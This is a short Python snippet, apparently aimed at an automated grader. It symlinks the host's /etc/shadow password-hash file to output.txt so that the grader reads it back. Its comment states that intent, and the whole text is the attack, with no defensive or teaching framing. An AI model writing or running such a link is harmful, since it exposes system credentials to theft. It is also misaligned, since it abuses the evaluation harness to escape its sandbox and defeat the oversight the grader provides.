# plant a link in the output dir so the grader serves the host file back
import os
os.symlink("/etc/shadow", "output.txt")
